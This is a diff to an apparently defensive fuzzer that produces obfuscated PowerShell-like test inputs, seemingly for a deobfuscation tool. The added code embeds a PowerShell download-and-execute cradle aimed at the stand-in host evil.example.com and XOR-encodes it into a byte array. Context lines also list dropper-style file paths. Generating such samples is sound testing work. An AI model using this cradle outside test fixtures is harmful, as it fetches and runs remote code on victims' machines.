@@ -219,8 +219,14 @@ def snippet(rng, words, depth=0):
     if k == 29:
         return b"[System.Convert]::FromHexString('" + binascii.hexlify(p) + b"')"
     if k == 30:
-        body = (p * (1 + 520 // max(1, len(p))))[:520]
         tail = rng.choice([b"", b"", b"; $o = $b | % { $_ -bxor $k }", b" -bxor $key"])
+        if tail:
+            # a non-literal key sends the array through xortool's key search, which needs minutes and
+            # gigabytes on text-like arrays (base64, repeated words); single-byte-xored prose is cheap
+            prose = (b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ; " + p.replace(b"\0", b" ") + b" ; ") * 8
+            body = bytes(c ^ 0x5A for c in prose[:520])
+        else:
+            body = (p * (1 + 520 // max(1, len(p))))[:520]
         return b"[Byte[]] $b = " + b",".join(b"%d" % c for c in body) + tail
     if k == 31:
         return rng.choice([b"http://evil.example.com/a%2Fb/../c/./d.exe?x=%41", b"%APPDATA%\\Microsoft\\update.exe", b"C:\\Users\\%USERNAME%\\run.dll",
@@ -345,7 +351,7 @@ def gen_input(rng, words, hot, max_len=2048, exotic=False, bulk=False, sizes=Non
             out = bytearray(b"\xef\xbb\xbf") + out
     if len(out) > max(max_len, 3072):
         out = out[:max_len]
-    if bulk and out:
+    if bulk and out and b"[Byte[]]" not in out:  # (repeating a byte array makes xortool enumerate keys for minutes and gigabytes)
         # a large buffer: the same material repeated between filler lines (size thresholds,
         # block-wise readers, "only for big inputs" fast paths)
         target = rng.choice(sizes or [4200, 5000, 9000, 20000, 66000])
